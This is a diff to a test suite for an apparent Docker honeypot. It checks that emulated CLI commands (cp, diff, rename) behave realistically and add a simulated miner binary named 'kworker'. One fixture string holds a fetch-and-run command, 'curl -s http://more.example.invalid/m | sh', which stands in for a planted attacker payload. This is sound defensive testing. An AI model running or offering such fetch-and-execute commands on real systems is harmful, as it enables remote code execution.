@@ -1,7 +1,7 @@
 // More docker CLI commands against the trap (posing as 20.10, so the CLI takes the classic paths): cp both ways,
 // diff, rename, commit, history, export, save/load, login, build, swarm init, events with filters, and the
 // websocket attach. Each must complete as with a real daemon and land in the events — nothing runs or is fetched.
-import { createHash } from 'node:crypto';
+import { createHash, randomBytes } from 'node:crypto';
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { connect } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -55,12 +55,20 @@ describe('trap: more docker CLI commands', () => {
     const out = join(dir, 'out');
     await ok(['cp', 'pcl-trap-more:/tmp/payload.sh', out]);
     expect(readFileSync(out, 'utf8')).toBe('#!/bin/sh\ncurl -s http://more.example.invalid/m | sh\n');
+    // A binary (a dropped miner, say) comes back byte for byte, not as zeros.
+    const bin = join(dir, 'kworker');
+    const bytes = randomBytes(200 * 1024);
+    writeFileSync(bin, bytes);
+    await ok(['cp', bin, 'pcl-trap-more:/tmp/']);
+    const binOut = join(dir, 'kworker.out');
+    await ok(['cp', 'pcl-trap-more:/tmp/kworker', binOut]);
+    expect(readFileSync(binOut).equals(bytes)).toBe(true);
     const hostname = await ok(['cp', 'pcl-trap-more:/etc/hostname', '-']);
     expect((await tarNames(Buffer.from(hostname, 'latin1'))).get('hostname')).toMatch(/^[0-9a-f]{12}\n$/);
     const missing = await dockerAsync(env, ['cp', 'pcl-trap-more:/etc/no-such-file', join(dir, 'x')]);
     expect(missing.code).not.toBe(0);
     expect(missing.stderr).toContain('Could not find the file /etc/no-such-file in container pcl-trap-more');
-    expect(await ok(['diff', 'pcl-trap-more'])).toBe('C /tmp\nA /tmp/payload.sh\n');
+    expect(await ok(['diff', 'pcl-trap-more'])).toBe('C /tmp\nA /tmp/kworker\nA /tmp/payload.sh\n');
     await ok(['rename', 'pcl-trap-more', 'pcl-trap-more2']);
     expect(await ok(['ps', '-a', '--filter', 'name=pcl-trap-more2', '--format', '{{.Names}}'])).toBe('pcl-trap-more2\n');
     const renameAgain = await dockerAsync(env, ['rename', 'pcl-trap-more', 'x1']);
